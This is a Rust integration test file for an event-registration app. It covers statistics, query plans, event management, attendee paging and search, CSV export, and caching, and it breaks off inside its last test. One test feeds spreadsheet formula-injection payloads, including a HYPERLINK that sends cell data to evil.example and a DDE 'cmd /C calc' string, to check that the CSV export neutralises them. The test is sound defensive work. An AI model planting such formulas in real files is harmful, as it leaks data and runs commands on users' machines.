//! The organizer's numbers: every figure comes from a
//! SQL aggregate, on both backends; on PostgreSQL, for an event of 10,000
//! registrations among 100,000, the statements reach registrations through
//! indexes only and read no more than that event's rows.

mod common;

use chrono::{Duration, NaiveDate, Utc};
use chrono_tz::Asia::Tokyo;
use common::{draft, event, execute, tokyo};
use tsudoi::events::manage::Period;
use tsudoi::events::{self, DayCount, DepartmentCount, manage};
use tsudoi::model::{EventStatus, Lang, Role};
use tsudoi::registrations::{self, Ending};
use tsudoi::storage::{Database, Pool, test_support};
use tsudoi::users::{self, NewUser};

async fn member(db: &Database, email: &str, department: Option<&str>) -> i64 {
    common::member(db, email, department, Role::Employee).await
}

#[tokio::test]
async fn the_numbers_count_every_state_by_day_and_by_department() {
    for t in test_support::backends().await {
        let db = &t.db;
        let backend = db.backend();
        let mut new = event("Stats", tokyo(2026, 12, 10, 18, 0), EventStatus::Published);
        new.capacity = 3;
        let id = events::create(db, &new).await.unwrap();
        let sales = [
            member(db, "a@example.co.jp", Some("営業部")).await,
            member(db, "b@example.co.jp", Some("営業部")).await,
        ];
        let dev = member(db, "c@example.co.jp", Some("開発部")).await;
        let nobody = member(db, "d@example.co.jp", None).await;
        let late = member(db, "e@example.co.jp", Some("開発部")).await;
        // Two on 1 December (Tokyo), the rest on the 2nd; 23:30 Tokyo is still the 1st.
        let a = registrations::register(db, id, sales[0], tokyo(2026, 12, 1, 9, 0))
            .await
            .unwrap();
        registrations::register(db, id, sales[1], tokyo(2026, 12, 1, 23, 30))
            .await
            .unwrap();
        let c = registrations::register(db, id, dev, tokyo(2026, 12, 2, 0, 30))
            .await
            .unwrap();
        registrations::register(db, id, nobody, tokyo(2026, 12, 2, 10, 0))
            .await
            .unwrap();
        registrations::register(db, id, late, tokyo(2026, 12, 2, 11, 0))
            .await
            .unwrap();
        // C cancels (nobody moves up from the waitlist), A checks in.
        registrations::end(
            db,
            c.id,
            Ending::Cancelled { by_user: dev },
            tokyo(2026, 12, 3, 9, 0),
        )
        .await
        .unwrap();
        registrations::check_in(db, a.id, nobody, tokyo(2026, 12, 10, 17, 50))
            .await
            .unwrap();

        let before_end = events::event_stats(db, Tokyo, id, tokyo(2026, 12, 10, 18, 30))
            .await
            .unwrap();
        assert_eq!(
            (
                before_end.capacity,
                before_end.registered,
                before_end.checked_in,
                before_end.waitlisted,
                before_end.cancelled
            ),
            (3, 3, 1, 1, 1),
            "{backend:?}: A, B and the first in line hold seats; E waits; C cancelled"
        );
        assert_eq!(before_end.no_shows, None, "{backend:?}: not over yet");
        let day = |d| NaiveDate::from_ymd_opt(2026, 12, d).unwrap();
        assert_eq!(
            before_end.by_day,
            [
                DayCount {
                    day: day(1),
                    registrations: 2
                },
                DayCount {
                    day: day(2),
                    registrations: 3
                },
            ],
            "{backend:?}"
        );
        assert_eq!(
            before_end.by_department,
            [
                DepartmentCount {
                    department: Some("営業部".into()),
                    registered: 2,
                    checked_in: 1
                },
                DepartmentCount {
                    department: None,
                    registered: 1,
                    checked_in: 0
                },
            ],
            "{backend:?}"
        );
        let after = events::event_stats(db, Tokyo, id, tokyo(2026, 12, 10, 20, 0))
            .await
            .unwrap();
        assert_eq!(after.no_shows, Some(2), "{backend:?}");
        assert!(matches!(
            events::event_stats(db, Tokyo, id + 1000, Utc::now()).await,
            Err(tsudoi::Error::NotFound)
        ));
    }
}

#[tokio::test]
async fn on_postgresql_the_numbers_of_a_big_event_use_indexes_and_read_only_its_rows() {
    let Some(server) = test_support::postgres_url() else {
        panic!("TSUDOI_TEST_DATABASE_URL must name a PostgreSQL server for this test");
    };
    let t = test_support::postgres(&server).await;
    let db = &t.db;
    let Pool::Postgres(pool) = db.pool() else {
        unreachable!()
    };
    const PEOPLE: i64 = 10_000;
    const OTHER_EVENTS: usize = 90;
    execute(
        db,
        "INSERT INTO departments (name) SELECT '部署 ' || g FROM generate_series(1, 20) g",
    )
    .await
    .unwrap();
    execute(
        db,
        &format!(
            "INSERT INTO users (email, display_name, department_id, role, lang)
             SELECT 'u' || g || '@example.co.jp', '社員 ' || g,
                    (SELECT id FROM departments ORDER BY id OFFSET g % 20 LIMIT 1), 'employee', 'ja'
             FROM generate_series(1, {PEOPLE}) g"
        ),
    )
    .await
    .unwrap();
    let starts = Utc::now() - Duration::days(1);
    let mut big = event("Town hall", starts, EventStatus::Published);
    big.capacity = PEOPLE as i32;
    let id = events::create(db, &big).await.unwrap();
    for n in 0..OTHER_EVENTS {
        let mut other = event(
            &format!("Other {n}"),
            starts + Duration::days(n as i64),
            EventStatus::Published,
        );
        other.capacity = 1000;
        events::create(db, &other).await.unwrap();
    }
    execute(
        db,
        &format!(
            "INSERT INTO registrations (event_id, user_id, status, registered_at, updated_at, checked_in_at, department_id)
             SELECT {id}, u.id, CASE WHEN u.id % 4 = 0 THEN 'checked_in' ELSE 'registered' END,
                    now() - (u.id % 14) * interval '1 day', now(),
                    CASE WHEN u.id % 4 = 0 THEN now() END, u.department_id
             FROM users u"
        ),
    )
    .await
    .unwrap();
    execute(
        db,
        &format!(
            "INSERT INTO registrations (event_id, user_id, status, registered_at, updated_at, department_id)
             SELECT e.id, u.id, 'registered', now(), now(), u.department_id
             FROM events e JOIN users u ON u.id <= 1000 WHERE e.id <> {id}"
        ),
    )
    .await
    .unwrap();
    execute(db, "ANALYZE").await.unwrap();

    let stats = events::event_stats(db, Tokyo, id, Utc::now())
        .await
        .unwrap();
    assert_eq!(stats.registered, PEOPLE);
    assert_eq!(stats.checked_in, PEOPLE / 4);
    assert_eq!(stats.no_shows, Some(PEOPLE - PEOPLE / 4));
    assert_eq!(
        stats.by_day.iter().map(|d| d.registrations).sum::<i64>(),
        PEOPLE
    );
    assert_eq!(stats.by_department.len(), 20);

    let mut conn = pool.acquire().await.unwrap();
    let mut statements = events::stats_statements(db.backend()).to_vec();
    // The cache's freshness check runs on every read of the dashboard.
    statements.push(events::stats_cache::FINGERPRINT);
    for (n, statement) in statements.iter().enumerate() {
        let types = if statement.contains("$2") {
            "(bigint, float8)"
        } else {
            "(bigint)"
        };
        let args = if statement.contains("$2") {
            format!("({id}, 32400)")
        } else {
            format!("({id})")
        };
        sqlx::query(&format!("PREPARE stats_{n} {types} AS {statement}"))
            .execute(&mut *conn)
            .await
            .unwrap();
        let plan: serde_json::Value = sqlx::query_scalar(&format!(
            "EXPLAIN (ANALYZE, FORMAT JSON) EXECUTE stats_{n} {args}"
        ))
        .fetch_one(&mut *conn)
        .await
        .unwrap();
        let mut scans = Vec::new();
        common::plan_scans(&plan[0]["Plan"], &mut scans);
        for (node, relation, rows) in &scans {
            if relation == "registrations" {
                assert_ne!(
                    node, "Seq Scan",
                    "statement {n} scans all registrations:\n{plan:#}"
                );
                assert!(
                    *rows <= PEOPLE as f64,
                    "statement {n} read {rows} registrations (the event has {PEOPLE}):\n{plan:#}"
                );
            }
        }
        let reads = |table: &str| scans.iter().any(|(_, relation, _)| relation == table);
        if n == 3 {
            // By department: the counts the database keeps for the event.
            assert!(
                reads("attendance_by_department") && !reads("registrations"),
                "statement {n} should read only the kept counts: {plan:#}"
            );
        } else if n > 0 {
            assert!(
                reads("registrations"),
                "statement {n} should read registrations: {plan:#}"
            );
        }
    }
}

async fn mails(db: &Database, kind: &str) -> i64 {
    common::scalar(
        db,
        &format!("SELECT COUNT(*) FROM mail_outbox WHERE kind = '{kind}'"),
    )
    .await
}

#[tokio::test]
async fn organizers_create_publish_edit_duplicate_and_cancel_their_events() {
    for t in test_support::backends().await {
        let db = &t.db;
        let backend = db.backend();
        let now = tokyo(2026, 12, 1, 10, 0);
        let starts = tokyo(2026, 12, 20, 18, 0);
        let organizer = member(db, "org@example.co.jp", None).await;
        let other = member(db, "other@example.co.jp", None).await;
        let people = [
            member(db, "p1@example.co.jp", None).await,
            member(db, "p2@example.co.jp", None).await,
            member(db, "p3@example.co.jp", None).await,
        ];

        // Validation speaks to the form.
        let mut bad = draft("Bad", starts, 10);
        bad.ends_at = starts;
        assert!(matches!(
            manage::create(db, organizer, &bad, false, now).await,
            Err(tsudoi::Error::Invalid(_))
        ));
        let mut bad = draft("Bad", starts, 10);
        bad.registration_closes_at = Some(starts + Duration::hours(1));
        assert!(matches!(
            manage::create(db, organizer, &bad, false, now).await,
            Err(tsudoi::Error::Invalid(_))
        ));
        // No event nobody can attend, no registration opening after the start.
        let mut bad = draft("Bad", starts, 0);
        assert_eq!(
            manage::create(db, organizer, &bad, false, now).await,
            Err(tsudoi::Error::Invalid(tsudoi::Reason::CapacityOutOfRange {
                max: 100_000
            }))
        );
        bad.capacity = 10;
        bad.registration_opens_at = Some(starts);
        assert_eq!(
            manage::create(db, organizer, &bad, false, now).await,
            Err(tsudoi::Error::Invalid(
                tsudoi::Reason::RegistrationOpensAfterStart
            ))
        );

        let id = manage::create(db, organizer, &draft("Workshop", starts, 2), false, now)
            .await
            .unwrap();
        assert!(
            manage::may_manage(db, organizer, Role::Organizer, id)
                .await
                .is_ok()
        );
        assert_eq!(
            manage::may_manage(db, other, Role::Organizer, id).await,
            Err(tsudoi::Error::Forbidden)
        );
        assert!(manage::may_manage(db, other, Role::Admin, id).await.is_ok());
        assert_eq!(
            manage::may_manage(db, other, Role::Staff, id).await,
            Err(tsudoi::Error::Forbidden)
        );
        assert_eq!(
            manage::get(db, Tokyo, id).await.unwrap().status,
            EventStatus::Draft
        );
        assert!(
            matches!(
                registrations::register(db, id, people[0], now).await,
                Err(tsudoi::Error::NotFound)
            ),
            "{backend:?}: to employees a draft does not exist"
        );

        manage::publish(db, organizer, id, now).await.unwrap();
        assert!(matches!(
            manage::publish(db, organizer, id, now).await,
            Err(tsudoi::Error::Conflict(_))
        ));
        for person in people {
            registrations::register(db, id, person, now).await.unwrap();
        }
        let before = mails(db, "event_changed").await;

        // A new title only: nobody is bothered.
        let event = manage::get(db, Tokyo, id).await.unwrap();
        let mut edit = event.draft.clone();
        edit.title_en = Some("Hands-on workshop".into());
        let edited = manage::update(db, organizer, id, event.version, &edit, now)
            .await
            .unwrap();
        assert_eq!((edited.notified, edited.promoted), (0, 0));
        // The same form sent again with the old version: refused, not overwritten.
        assert!(matches!(
            manage::update(db, organizer, id, event.version, &edit, now).await,
            Err(tsudoi::Error::Conflict(_))
        ));

        // A new place: the two seat holders and the one waiting are told, once.
        let event = manage::get(db, Tokyo, id).await.unwrap();
        let mut moved = event.draft.clone();
        moved.place = "Hall B".into();
        let edited = manage::update(db, organizer, id, event.version, &moved, now)
            .await
            .unwrap();
        assert_eq!(edited.notified, 3, "{backend:?}");
        assert_eq!(mails(db, "event_changed").await, before + 3);

        // Capacity: not below the seats taken; raising it seats the one waiting.
        let event = manage::get(db, Tokyo, id).await.unwrap();
        let mut smaller = event.draft.clone();
        smaller.capacity = 1;
        assert!(matches!(
            manage::update(db, organizer, id, event.version, &smaller, now).await,
            Err(tsudoi::Error::Conflict(_))
        ));
        let mut bigger = event.draft.clone();
        bigger.capacity = 5;
        let edited = manage::update(db, organizer, id, event.version, &bigger, now)
            .await
            .unwrap();
        assert_eq!((edited.notified, edited.promoted), (0, 1), "{backend:?}");
        assert_eq!(mails(db, "promoted").await, 1);

        // Duplicate: a draft with the same content, nobody registered.
        let copy = manage::duplicate(db, other, id, now).await.unwrap();
        let copied = manage::get(db, Tokyo, copy).await.unwrap();
        assert_eq!(
            (copied.status, copied.organizer_id, copied.seats_taken),
            (EventStatus::Draft, Some(other), 0)
        );
        assert_eq!(copied.draft.place, "Hall B");
        // Marked as a copy, so the two are told apart in every list.
        assert_eq!(
            copied.draft.title_en.as_deref(),
            Some("Hands-on workshop (copy)")
        );
        assert_eq!(
            copied.draft.title_ja.as_deref(),
            Some("Workshop（日本語）（コピー）")
        );

        // An event that is over cannot be called off (the copy, published, once it has ended).
        manage::publish(db, other, copy, now).await.unwrap();
        let after_copy_ends = copied.draft.ends_at + Duration::minutes(1);
        let refused = manage::cancel(db, other, copy, after_copy_ends).await;
        assert!(
            matches!(&refused, Err(tsudoi::Error::Conflict(why)) if why.to_string().contains("over")),
            "{backend:?}: {refused:?}"
        );
        assert_eq!(
            manage::get(db, Tokyo, copy).await.unwrap().status,
            EventStatus::Published
        );

        // Cancel: everyone told, once; a cancelled event is not edited again.
        assert_eq!(
            manage::cancel(db, organizer, id, now).await.unwrap(),
            3,
            "{backend:?}"
        );
        assert_eq!(mails(db, "event_cancelled").await, 3);
        assert!(matches!(
            manage::cancel(db, organizer, id, now).await,
            Err(tsudoi::Error::Conflict(_))
        ));
        let event = manage::get(db, Tokyo, id).await.unwrap();
        assert!(matches!(
            manage::update(db, organizer, id, event.version, &event.draft, now).await,
            Err(tsudoi::Error::Conflict(_))
        ));
        assert_eq!(
            common::scalar(db, "SELECT COUNT(*) FROM audit_log WHERE action IN ('event_created', 'event_published', 'event_edited', 'event_cancelled')").await,
            8,
            "{backend:?}: 2 created, 2 published, 3 edits, 1 cancelled"
        );
    }
}

#[tokio::test]
async fn an_edit_whose_capacity_is_refused_leaves_the_event_exactly_as_before() {
    for t in test_support::backends().await {
        let db = &t.db;
        let backend = db.backend();
        let now = tokyo(2026, 12, 1, 10, 0);
        let organizer = member(db, "org@example.co.jp", None).await;
        let id = manage::create(
            db,
            organizer,
            &draft("Workshop", tokyo(2026, 12, 20, 18, 0), 2),
            true,
            now,
        )
        .await
        .unwrap();
        for n in 0..3 {
            let person = member(db, &format!("p{n}@example.co.jp"), None).await;
            registrations::register(db, id, person, now).await.unwrap();
        }
        let before = manage::get(db, Tokyo, id).await.unwrap();
        let audit_before = common::scalar(db, "SELECT COUNT(*) FROM audit_log").await;
        let mail_before = common::scalar(db, "SELECT COUNT(*) FROM mail_outbox").await;

        // A new title, time and place (which would tell all three) with a
        // capacity below the two seats taken: all or nothing.
        let mut edit = before.draft.clone();
        edit.title_en = Some("Renamed".into());
        edit.place = "Hall C".into();
        edit.starts_at += Duration::hours(1);
        edit.ends_at += Duration::hours(1);
        edit.capacity = 1;
        let refused = manage::update(db, organizer, id, before.version, &edit, now).await;
        assert_eq!(
            refused,
            Err(tsudoi::Error::Conflict(
                tsudoi::Reason::CapacityBelowSeatsTaken { taken: 2 }
            )),
            "{backend:?}"
        );
        assert_eq!(
            manage::get(db, Tokyo, id).await.unwrap(),
            before,
            "{backend:?}"
        );
        assert_eq!(
            common::scalar(db, "SELECT COUNT(*) FROM audit_log").await,
            audit_before
        );
        assert_eq!(
            common::scalar(db, "SELECT COUNT(*) FROM mail_outbox").await,
            mail_before
        );

        // The same edit with a capacity that fits is applied whole, and the
        // form's version still matches: the refusal moved nothing.
        edit.capacity = 3;
        let edited = manage::update(db, organizer, id, before.version, &edit, now)
            .await
            .unwrap();
        assert_eq!((edited.notified, edited.promoted), (3, 1), "{backend:?}");
        let after = manage::get(db, Tokyo, id).await.unwrap();
        assert_eq!(
            (
                after.draft.title_en.as_deref(),
                after.draft.place.as_str(),
                after.draft.capacity,
                after.seats_taken
            ),
            (Some("Renamed"), "Hall C", 3, 3)
        );
    }
}

#[tokio::test]
async fn an_organizer_pages_through_upcoming_and_past_events_and_finds_them_by_title() {
    for t in test_support::backends().await {
        let db = &t.db;
        let now = tokyo(2026, 12, 1, 10, 0);
        let organizer = member(db, "org@example.co.jp", None).await;
        let other = member(db, "other@example.co.jp", None).await;
        for n in 0..5 {
            manage::create(
                db,
                organizer,
                &draft(&format!("Mine {n}"), tokyo(2026, 12, 10 + n, 18, 0), 10),
                n % 2 == 0,
                now,
            )
            .await
            .unwrap();
        }
        manage::create(
            db,
            other,
            &draft("Theirs", tokyo(2026, 12, 12, 18, 0), 10),
            true,
            now,
        )
        .await
        .unwrap();
        // Upcoming soonest first, a page at a time.
        let mine = |period, search: Option<&'static str>, from, size| {
            manage::list(
                db,
                Tokyo,
                Some(organizer),
                period,
                search,
                from,
                Some(size),
                now,
            )
        };
        let first = mine(Period::Upcoming, None, None, 2).await.unwrap();
        let titles = |page: &tsudoi::events::ManagedPage| {
            page.items
                .iter()
                .map(|e| e.draft.title_en.clone().unwrap())
                .collect::<Vec<_>>()
        };
        assert_eq!(titles(&first), ["Mine 0", "Mine 1"]);
        let second = mine(Period::Upcoming, None, first.next, 2).await.unwrap();
        assert_eq!(titles(&second), ["Mine 2", "Mine 3"]);
        let third = mine(Period::Upcoming, None, second.next, 2).await.unwrap();
        assert_eq!(
            (titles(&third), third.next),
            (vec!["Mine 4".to_string()], None)
        );
        assert!(
            mine(Period::Past, None, None, 10)
                .await
                .unwrap()
                .items
                .is_empty()
        );
        // Once two of them are over, they are the past, latest first.
        let later = tokyo(2026, 12, 12, 0, 0);
        let past = manage::list(
            db,
            Tokyo,
            Some(organizer),
            Period::Past,
            None,
            None,
            None,
            later,
        )
        .await
        .unwrap();
        assert_eq!(titles(&past), ["Mine 1", "Mine 0"]);
        let upcoming = manage::list(
            db,
            Tokyo,
            Some(organizer),
            Period::Upcoming,
            None,
            None,
            None,
            later,
        )
        .await
        .unwrap();
        assert_eq!(titles(&upcoming), ["Mine 2", "Mine 3", "Mine 4"]);
        // Found by a word of the title, in either language.
        assert_eq!(
            titles(
                &mine(Period::Upcoming, Some("mine 3"), None, 10)
                    .await
                    .unwrap()
            ),
            ["Mine 3"]
        );
        assert_eq!(
            titles(
                &mine(Period::Upcoming, Some("3（日本語"), None, 10)
                    .await
                    .unwrap()
            ),
            ["Mine 3"]
        );
        assert_eq!(
            manage::list(
                db,
                Tokyo,
                None,
                Period::Upcoming,
                None,
                None,
                Some(100),
                now
            )
            .await
            .unwrap()
            .items
            .len(),
            6,
            "admins see all"
        );
    }
}

#[tokio::test]
async fn attendees_are_listed_searched_filtered_and_exported_as_csv_for_excel() {
    use futures_util::StreamExt;

    for t in test_support::backends().await {
        let db = &t.db;
        let backend = db.backend();
        let now = tokyo(2026, 12, 1, 10, 0);
        let organizer = member(db, "org@example.co.jp", None).await;
        let id = manage::create(
            db,
            organizer,
            &draft("Export", tokyo(2026, 12, 20, 18, 0), 1200),
            true,
            now,
        )
        .await
        .unwrap();
        // 1,100 people: more than two export pages.
        let names: Vec<String> = (0..1100).map(|n| format!("社員{n:04}")).collect();
        for (n, name) in names.iter().enumerate() {
            let person = users::upsert(
                db,
                &NewUser {
                    email: format!("e{n:04}@example.co.jp"),
                    display_name: name.clone(),
                    department: Some(if n % 2 == 0 { "営業部" } else { "開発部" }.into()),
                    role: Role::Employee,
                    lang: Lang::Ja,
                },
                None,
            )
            .await
            .unwrap();
            registrations::register(db, id, person, now).await.unwrap();
        }
        let first = events::attendees::list(db, id, &Default::default(), None, Some(50))
            .await
            .unwrap();
        assert_eq!(first.items.len(), 50);
        assert_eq!(first.items[0].name, "社員0000");
        let second =
            events::attendees::list(db, id, &Default::default(), first.next.clone(), Some(50))
                .await
                .unwrap();
        assert_eq!(second.items[0].name, "社員0050", "{backend:?}");
        let cursor = first.next.unwrap();
        assert_eq!(
            events::AttendeeCursor::decode(&cursor.encode()),
            Some(cursor)
        );

        let search = |text: &str| tsudoi::events::AttendeeFilter {
            status: None,
            search: Some(text.into()),
        };
        let found = events::attendees::list(db, id, &search("E0107@EXAMPLE"), None, None)
            .await
            .unwrap();
        assert_eq!(
            found
                .items
                .iter()
                .map(|a| a.name.as_str())
                .collect::<Vec<_>>(),
            ["社員0107"]
        );
        assert!(
            events::attendees::list(db, id, &search("%"), None, None)
                .await
                .unwrap()
                .items
                .is_empty()
        );
        let waiting = tsudoi::events::AttendeeFilter {
            status: Some(tsudoi::model::RegistrationStatus::Waitlisted),
            search: None,
        };
        assert!(
            events::attendees::list(db, id, &waiting, None, None)
                .await
                .unwrap()
                .items
                .is_empty()
        );

        let chunks: Vec<Vec<u8>> = events::attendees::export_csv(db.clone(), id, Tokyo, Lang::Ja)
            .map(|chunk| chunk.unwrap())
            .collect()
            .await;
        assert_eq!(
            chunks.len(),
            4,
            "{backend:?}: header, then 500 + 500 + 100 rows"
        );
        let bytes = chunks.concat();
        assert_eq!(
            &bytes[..3],
            [0xEF, 0xBB, 0xBF],
            "a UTF-8 byte order mark for Excel"
        );
        let text = String::from_utf8(bytes[3..].to_vec()).expect("UTF-8");
        let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
        assert_eq!(lines.len(), 1101);
        assert_eq!(
            lines[0],
            "氏名,メールアドレス,部署,状態,登録日時,受付日時,チケットコード,登録ID"
        );
        assert!(
            lines[1].starts_with("社員0000,e0000@example.co.jp,営業部,参加予定,2026-12-01 10:00,,"),
            "{}",
            lines[1]
        );
        // The Japanese name is the UTF-8 bytes of 社 (E7 A4 BE), right after the header.
        let header_len = "\u{FEFF}".len() + lines[0].len() + 2;
        assert_eq!(&bytes[header_len..header_len + 3], [0xE7, 0xA4, 0xBE]);
        // Asked again after its end (as the HTTP compression layer does), the
        // export says it is over instead of panicking.
        let mut stream = Box::pin(events::attendees::export_csv(
            db.clone(),
            id,
            Tokyo,
            Lang::En,
        ));
        while stream.next().await.is_some() {}
        assert!(stream.next().await.is_none(), "{backend:?}");
        assert!(stream.next().await.is_none(), "{backend:?}");
        let english: Vec<u8> = events::attendees::export_csv(db.clone(), id, Tokyo, Lang::En)
            .map(|chunk| chunk.unwrap())
            .collect::<Vec<_>>()
            .await
            .concat();
        assert!(String::from_utf8_lossy(&english).contains("Name,E-mail,Department,Status"));
    }
}

#[tokio::test]
async fn the_csv_export_never_hands_a_spreadsheet_a_formula() {
    use futures_util::StreamExt;

    for t in test_support::backends().await {
        let db = &t.db;
        let backend = db.backend();
        let now = tokyo(2026, 12, 1, 10, 0);
        let organizer = member(db, "org@example.co.jp", None).await;
        let id = manage::create(
            db,
            organizer,
            &draft("Formulas", tokyo(2026, 12, 20, 18, 0), 10),
            true,
            now,
        )
        .await
        .unwrap();
        let people = [
            (
                "=cmd@example.co.jp",
                r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#,
                "@SUM(A1)",
            ),
            ("+a@example.co.jp", "+1+1", "-2+3"),
            ("b@example.co.jp", "＝１＋１", "=cmd|' /C calc'!A0"),
        ];
        for (email, name, department) in people {
            let person = users::upsert(
                db,
                &NewUser {
                    email: email.into(),
                    display_name: name.into(),
                    department: Some(department.into()),
                    role: Role::Employee,
                    lang: Lang::Ja,
                },
                None,
            )
            .await
            .unwrap();
            registrations::register(db, id, person, now).await.unwrap();
        }
        let bytes: Vec<u8> = events::attendees::export_csv(db.clone(), id, Tokyo, Lang::En)
            .map(|chunk| chunk.unwrap())
            .collect::<Vec<_>>()
            .await
            .concat();
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
                    "{backend:?}: a formula reached the CSV: {cell:?}"
                );
            }
        }
        assert_eq!(cells, 3 * 8, "{backend:?}");
        assert!(
            text.contains("'=HYPERLINK("),
            "{backend:?}: the text is kept, quoted"
        );
        assert!(text.contains("'=cmd@example.co.jp"), "{backend:?}");
        assert!(text.contains("'-2+3"), "{backend:?}");
    }
}

#[tokio::test]
async fn the_admin_overview_counts_months_fill_and_attendance_by_department() {
    for t in test_support::backends().await {
        let db = &t.db;
        let backend = db.backend();
        let sales = member(db, "s@example.co.jp", Some("営業部")).await;
        let dev = member(db, "d@example.co.jp", Some("開発部")).await;
        let at = tokyo(2026, 11, 1, 9, 0);
        // 30 November 23:30 Tokyo is November, though it is the 30th in UTC too.
        let mut past = event("Past", tokyo(2026, 11, 30, 23, 0), EventStatus::Published);
        past.ends_at = tokyo(2026, 11, 30, 23, 30);
        past.capacity = 4;
        let past = events::create(db, &past).await.unwrap();
        let mut soon = event("Soon", tokyo(2026, 12, 1, 0, 30), EventStatus::Published);
        soon.capacity = 10;
        let soon = events::create(db, &soon).await.unwrap();
        let mut draft_event = event("Draft", tokyo(2026, 12, 5, 10, 0), EventStatus::Draft);
        draft_event.capacity = 10;
        events::create(db, &draft_event).await.unwrap();
        let a = registrations::register(db, past, sales, at).await.unwrap();
        registrations::register(db, past, dev, at).await.unwrap();
        registrations::register(db, soon, dev, at).await.unwrap();
        registrations::check_in(db, a.id, dev, tokyo(2026, 11, 30, 23, 5))
            .await
            .unwrap();

        let overview = events::overview::overview(
            db,
            Tokyo,
            tokyo(2026, 11, 1, 0, 0),
            tokyo(2027, 1, 1, 0, 0),
            tokyo(2026, 12, 1, 0, 0),
        )
        .await
        .unwrap();
        let months: Vec<_> = overview
            .months
            .iter()
            .map(|m| (m.month.as_str(), m.events, m.capacity, m.seats_taken))
            .collect();
        assert_eq!(
            months,
            [("2026-11", 1, 4, 2), ("2026-12", 1, 10, 1)],
            "{backend:?}"
        );
        let attendance: Vec<_> = overview
            .attendance
            .iter()
            .map(|d| (d.department.as_deref(), d.registered, d.checked_in))
            .collect();
        assert_eq!(
            attendance,
            [(Some("営業部"), 1, 1), (Some("開発部"), 1, 0)],
            "{backend:?}: only the event that is over"
        );
    }
}

#[tokio::test]
async fn cached_numbers_are_recomputed_after_every_change_and_only_then() {
    use tsudoi::events::stats_cache::{Served, StatsCache};
    for t in test_support::backends().await {
        let db = &t.db;
        let backend = db.backend();
        let now = tokyo(2026, 12, 1, 10, 0);
        let organizer = member(db, "org@example.co.jp", None).await;
        let id = manage::create(
            db,
            organizer,
            &draft("Cached", tokyo(2026, 12, 20, 18, 0), 1),
            true,
            now,
        )
        .await
        .unwrap();
        let a = member(db, "a@example.co.jp", Some("営業部")).await;
        let b = member(db, "b@example.co.jp", None).await;
        let cache = StatsCache::new(100);
        let read = |at| cache.get(db, Tokyo, id, at);

        let (stats, served) = read(now).await.unwrap();
        assert_eq!((stats.registered, served), (0, Served::Computed));
        assert_eq!(read(now).await.unwrap().1, Served::Cached, "{backend:?}");

        let seat = registrations::register(db, id, a, now).await.unwrap();
        let (stats, served) = read(now).await.unwrap();
        assert_eq!(
            (stats.registered, served),
            (1, Served::Computed),
            "{backend:?}: a registration"
        );
        assert_eq!(read(now).await.unwrap().1, Served::Cached);

        registrations::register(db, id, b, now).await.unwrap();
        let (stats, served) = read(now).await.unwrap();
        assert_eq!(
            (stats.waitlisted, served),
            (1, Served::Computed),
            "{backend:?}: joining the waitlist"
        );

        tsudoi::checkin::by_registration(db, id, seat.id, organizer, now)
            .await
            .unwrap();
        let (stats, served) = read(now).await.unwrap();
        assert_eq!(
            (stats.checked_in, served),
            (1, Served::Computed),
            "{backend:?}: a check-in"
        );

        let event = manage::get(db, Tokyo, id).await.unwrap();
        let mut bigger = event.draft.clone();
        bigger.capacity = 2;
        manage::update(db, organizer, id, event.version, &bigger, now)
            .await
            .unwrap();
        let (stats, served) = read(now).await.unwrap();
        assert_eq!(
            (stats.capacity, stats.registered, stats.waitlisted, served),
            (2, 2, 0, Served::Computed),
            "{backend:?}: capacity raised, B promoted"
        );

        // The event ending changes the numbers (no-shows) without any write.
        assert_eq!(read(now).await.unwrap().1, Served::Cached);
        let (stats, served) = read(tokyo(2026, 12, 20, 21, 0)).await.unwrap();
        assert_eq!(
            (stats.no_shows, served),
            (Some(1), Served::Computed),
            "{backend:?}"
        );
    }
}

#[tokio::test]
async fn the_organizers_list_shows_the_company_day_of_an_early_morning_event() {
    for t in test_support::backends().await {
        let db = &t.db;
        let now = tokyo(2026, 11, 20, 10, 0);
        let organizer = member(db, "org@example.co.jp", None).await;
        // 08:00 in Tokyo is still the previous day in UTC.
        let early = tokyo(2026, 12, 1, 8, 0);
        manage::create(db, organizer, &draft("Breakfast", early, 10), true, now)
            .await
            .unwrap();
        let page = manage::list(
            db,
            Tokyo,
            Some(organizer),
            manage::Period::Upcoming,
            None,
            None,
            None,
            now,
        )
        .await
        .unwrap();
        let listed = &page.items[0];
        assert_eq!(
            listed.draft.starts_at.date_naive(),
            NaiveDate::from_ymd_opt(2026, 11, 30).unwrap()
        );
        assert_eq!(
            (listed.utc_offset_seconds, listed.local_start().date_naive()),
            (9 * 3600, NaiveDate::from_ymd_opt(2026, 12, 1).unwrap()),
            "{:?}",
            db.backend()
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn attendees_are_listed_by_the_reading_of_their_names_where_one_is_known() {
    for t in test_support::backends().await {
        let db = &t.db;
        let backend = db.backend().name();
        let now = tokyo(2026, 12, 1, 10, 0);
        let organizer = member(db, "org@example.co.jp", None).await;
        let id = manage::create(
            db,
            organizer,
            &draft("Order", tokyo(2026, 12, 20, 18, 0), 10),
            true,
            now,
        )
        .await
        .unwrap();
        // By code point 中 (U+4E2D) sorts before 井 (U+4E95) and 渡 (U+6E21)
        // after both; read as なかむら, いのうえ, わたなべ the order is 井上,
        // 中村, 渡辺. Ann has no reading and sorts by her name.
        let csv = "メールアドレス,氏名,フリガナ\n\
                   nakamura@example.co.jp,中村 健,なかむら けん\n\
                   inoue@example.co.jp,井上 陽子,いのうえ ようこ\n\
                   watanabe@example.co.jp,渡辺 翔,わたなべ しょう\n\
                   ann@example.co.jp,Ann Smith,\n";
        let report = users::import::import_csv(db, None, csv.as_bytes())
            .await
            .unwrap();
        assert_eq!(report.created, 4, "{backend}: {report:?}");
        // Importing again changes nothing: the reading is part of the comparison.
        let again = users::import::import_csv(db, None, csv.as_bytes())
            .await
            .unwrap();
        assert_eq!(again.unchanged, 4, "{backend}: {again:?}");
        for email in [
            "nakamura@example.co.jp",
            "inoue@example.co.jp",
            "watanabe@example.co.jp",
            "ann@example.co.jp",
        ] {
            let (person, _) = users::find_by_email(db, email).await.unwrap().unwrap();
            registrations::register(db, id, person, now).await.unwrap();
        }
        let names = |page: tsudoi::events::AttendeePage| {
            page.items.into_iter().map(|a| a.name).collect::<Vec<_>>()
        };
